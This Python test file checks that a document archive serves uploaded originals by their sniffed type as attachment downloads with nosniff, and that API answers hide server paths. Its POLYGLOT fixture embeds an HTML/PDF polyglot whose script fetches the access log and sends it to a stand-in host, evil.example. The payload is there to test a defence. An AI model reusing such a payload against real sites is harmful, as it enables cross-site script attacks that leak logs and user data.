"""An original is served as the type intake found in its bytes, never as its name says, and
as a download; API answers name the scan by its file name, not by the server's paths."""

from __future__ import annotations

from pathlib import Path

import pytest

from scanmaker import write_scan
from scanners.intake import sniff_kind
from tests.support.documents import store_document
from tests.support.world import World

# An HTML page that is also a PDF: readers accept the PDF header within the first KiB.
POLYGLOT = (
    b"<html><body><script>fetch('/api/v1/access-log').then(r => r.text())"
    b".then(t => location = 'https://evil.example/?' + encodeURIComponent(t))</script>\n"
    b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
)
SERVER_PATH = "/srv/scans/karton-17/x.pdf"


@pytest.fixture(scope="module")
def polyglot_id(world: World, tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = tmp_path_factory.mktemp("polyglot")
    original = folder / "rechnung.html"
    original.write_bytes(POLYGLOT)
    pdfa = write_scan([["Rechnung"]], folder / "rechnung.pdf", "born_digital_pdf")
    return store_document(
        world.archive, folder, "rechnung", "rechnung", "archived", "Rechnung Musterstadt",
        unit="6.1.3", files=(original, pdfa), source_kind=sniff_kind(original),
    )  # fmt: skip


def test_intake_takes_the_polyglot_for_a_pdf() -> None:
    assert POLYGLOT.index(b"%PDF-") < 1024  # what makes it one


def test_a_polyglot_named_html_is_served_as_a_pdf_download(world: World, polyglot_id: str) -> None:
    answer = world.get(f"/api/v1/documents/{polyglot_id}/original")
    assert answer.status_code == 200 and answer.content == POLYGLOT
    assert answer.headers["content-type"] == "application/pdf"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-disposition"].startswith("attachment;")
    assert 'filename="rechnung.html"' in answer.headers["content-disposition"]


def test_an_image_original_is_served_as_its_type(world: World) -> None:
    answer = world.get(f"/api/v1/documents/{world.ids['baugenehmigung']}/original")
    assert answer.headers["content-type"] == "image/png"
    assert answer.headers["content-disposition"].startswith("attachment;")


def test_an_original_whose_stored_type_is_unknown_is_served_by_its_bytes(
    world: World, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """A catalog row without a type this version knows: the bytes decide, never the name."""
    folder = tmp_path_factory.mktemp("unbekannt")
    original = folder / "seite.html"
    original.write_bytes(POLYGLOT.replace(b"Catalog", b"Katalog"))
    pdfa = write_scan([["Seite"]], folder / "seite.pdf", "born_digital_pdf")
    doc_id = store_document(
        world.archive, folder, "seite", "rechnung", "archived", "Seite", unit="6.1.3",
        files=(original, pdfa), source_kind="",
    )  # fmt: skip
    answer = world.get(f"/api/v1/documents/{doc_id}/original")
    assert answer.headers["content-type"] == "application/pdf"


def test_api_answers_name_the_scan_not_the_server_path(
    world: World, tmp_path_factory: pytest.TempPathFactory
) -> None:
    folder = tmp_path_factory.mktemp("karton-17")
    original = write_scan([["Bauantrag"]], folder / "x.png", "png", seed=17)
    pdfa = write_scan([["Bauantrag"]], folder / "x.pdf", "born_digital_pdf")
    doc_id = store_document(
        world.archive, folder, "x", "bauantrag", "archived", "Bauantrag Musterstadt",
        unit="6.1.3", files=(original, pdfa), source_name=SERVER_PATH,
        facts={"transfer_note": {"source_name": SERVER_PATH, "source_kind": "png"}},
    )  # fmt: skip
    world.archive.audit("received", doc_id, "karton-1", {"source": SERVER_PATH, "sha256": "0"})
    answer = world.get(f"/api/v1/documents/{doc_id}")
    assert answer.status_code == 200
    body = answer.json()
    assert body["source_name"] == "x.pdf"
    assert [v["source_name"] for v in body["versions"]] == ["x.pdf"]
    received = [e for e in body["audit"] if e["event"] == "received"]
    assert received and received[0]["detail"]["source"] == "x.pdf"
    assert body["transfer_note"]["source_name"] == "x.pdf"
    assert "/srv/" not in answer.text and str(Path(SERVER_PATH).parent) not in answer.text
